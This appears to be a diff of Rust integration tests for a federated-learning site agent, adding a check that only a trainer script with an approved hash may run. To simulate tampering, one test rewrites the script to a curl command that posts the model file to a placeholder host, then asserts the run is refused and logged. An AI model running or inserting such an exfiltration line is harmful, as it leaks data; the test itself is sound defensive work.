@@ -38,6 +38,18 @@ async fn experiment(server: &Served, rounds: u32) -> String {
 
 /// Runs one agent under `rules` (state in `dir`) on experiment `id` until it idles out.
 async fn run_site(server: &Served, dir: &Path, id: &str, rules: SiteRules) -> AgentReport {
+    let trainer = Arc::new(BuiltInTrainer::new(common::blob_data(40, 0.0)));
+    run_site_with(server, dir, id, rules, trainer).await
+}
+
+/// [`run_site`] with another trainer.
+async fn run_site_with(
+    server: &Served,
+    dir: &Path,
+    id: &str,
+    rules: SiteRules,
+    trainer: cohort_edge::trainer::SharedTrainer,
+) -> AgentReport {
     let token = common::issue_token(&server.http, &server.base, "site").await;
     let config = AgentConfig {
         coordinator: server.base.clone(),
@@ -45,7 +57,7 @@ async fn run_site(server: &Served, dir: &Path, id: &str, rules: SiteRules) -> Ag
         ca_pem: Some(server.ca_pem.clone()),
         identity_pem: None,
         enrol_token: Some(token),
-        trainer: Arc::new(BuiltInTrainer::new(common::blob_data(40, 0.0))),
+        trainer,
         state_dir: dir.to_path_buf(),
         idle_exit: Some(Duration::from_secs(4)),
         seed: 1,
@@ -82,7 +94,7 @@ async fn an_experiment_the_site_does_not_allow_is_refused_reported_and_logged() 
     let id = experiment(&server, 2).await;
     let rules = SiteRules {
         allowed_experiments: Some(vec![uuid::Uuid::from_u128(42)]),
-        max_rounds: None,
+        ..SiteRules::default()
     };
     let report = run_site(&server, &dir.path().join("site"), &id, rules).await;
     assert_eq!(report.uploads, 0, "{report:?}");
@@ -118,6 +130,7 @@ async fn rounds_past_the_sites_limit_are_refused_reported_and_logged() {
     let rules = SiteRules {
         allowed_experiments: Some(vec![id.parse().unwrap()]),
         max_rounds: Some(1),
+        approved_trainer: None,
     };
     let report = run_site(&server, &dir.path().join("site"), &id, rules).await;
     assert_eq!(report.uploads, 1, "{report:?}");
@@ -137,4 +150,110 @@ async fn rounds_past_the_sites_limit_are_refused_reported_and_logged() {
         assert_eq!(entry.outcome, TaskOutcome::Refused, "{entry:?}");
         assert_eq!(entry.bytes_sent, 0);
     }
+}
+
+/// A file-model experiment of `rounds` rounds for one client (one 4 x 4 tensor).
+async fn file_experiment(server: &Served, rounds: u32) -> String {
+    use cohort_aggregation::{Layout, ModelVector, TensorSpec};
+    let layout = Layout::new(vec![TensorSpec::new("w", [4, 4])]).unwrap();
+    let initial = ModelVector::new(Arc::new(layout), vec![0.5; 16]).unwrap();
+    let bytes = cohort_aggregation::model_file::encode(&initial, Default::default());
+    let r = server
+        .http
+        .post(format!("{}/api/v1/admin/models?name=governed", server.base))
+        .bearer_auth(common::ADMIN)
+        .header("content-type", "application/octet-stream")
+        .body(bytes)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 201);
+    let model = r.json::<serde_json::Value>().await.unwrap()["id"].clone();
+    let spec = serde_json::json!({
+        "name": "governed file", "model": "file", "initial_model": model,
+        "rounds": rounds, "clients_per_round": 1, "min_participants": 1,
+        "collect_deadline_seconds": 20, "max_round_attempts": 2
+    });
+    let exp = admin(
+        &server.http,
+        &server.base,
+        Method::POST,
+        "/experiments",
+        Some(spec),
+    )
+    .await;
+    exp["id"].as_str().unwrap().to_string()
+}
+
+/// A site's own trainer: a shell script that hands the model back unchanged.
+fn script_trainer(dir: &Path) -> cohort_edge::trainer::external::ExternalTrainer {
+    std::fs::create_dir_all(dir).unwrap();
+    let script = dir.join("train.sh");
+    std::fs::write(
+        &script,
+        "cp \"$COHORT_GLOBAL_MODEL\" \"$COHORT_UPDATE\"\n\
+         echo '{\"num_examples\": 10}' > \"$COHORT_RESULT\"\n",
+    )
+    .unwrap();
+    cohort_edge::trainer::external::ExternalTrainer::new(
+        &format!("sh {}", script.display()),
+        Duration::from_secs(30),
+        &dir.join("work"),
+    )
+    .unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn only_the_approved_trainer_runs_on_the_sites_data() {
+    let dir = tempfile::tempdir().unwrap();
+    let server = common::serve_in(dir.path()).await;
+
+    // The script as approved: it trains.
+    let trainer = script_trainer(&dir.path().join("code"));
+    let hash = trainer.code_sha256().unwrap();
+    assert_eq!(hash.len(), 64);
+    let id = file_experiment(&server, 1).await;
+    let rules = SiteRules {
+        approved_trainer: Some(hash.clone()),
+        ..SiteRules::default()
+    };
+    let site = dir.path().join("site");
+    let report = run_site_with(&server, &site, &id, rules.clone(), Arc::new(trainer)).await;
+    assert_eq!((report.uploads, report.refused), (1, 0), "{report:?}");
+
+    // The script changed after it was approved: refused, reported and logged.
+    std::fs::write(
+        dir.path().join("code/train.sh"),
+        "curl -d @\"$COHORT_GLOBAL_MODEL\" https://example.invalid\n",
+    )
+    .unwrap();
+    let trainer = script_trainer_unchanged(&dir.path().join("code"));
+    let id = file_experiment(&server, 1).await;
+    let report = run_site_with(&server, &site, &id, rules, Arc::new(trainer)).await;
+    assert_eq!(report.uploads, 0, "{report:?}");
+    assert!(report.refused >= 1, "{report:?}");
+    let reasons = failure_reasons(&server, &id).await;
+    assert!(
+        reasons
+            .iter()
+            .any(|r| r.contains("not the one this site approved")),
+        "{reasons:?}"
+    );
+    let log = SiteLog::new(&site).entries().unwrap();
+    assert!(
+        log.iter().any(|e| e.outcome == TaskOutcome::Refused
+            && e.experiment.to_string() == id
+            && e.reason.as_deref().unwrap().contains(&hash)),
+        "{log:?}"
+    );
+}
+
+/// The trainer of `dir/train.sh` as it is now (not rewritten).
+fn script_trainer_unchanged(dir: &Path) -> cohort_edge::trainer::external::ExternalTrainer {
+    cohort_edge::trainer::external::ExternalTrainer::new(
+        &format!("sh {}", dir.join("train.sh").display()),
+        Duration::from_secs(30),
+        &dir.join("work"),
+    )
+    .unwrap()
 }
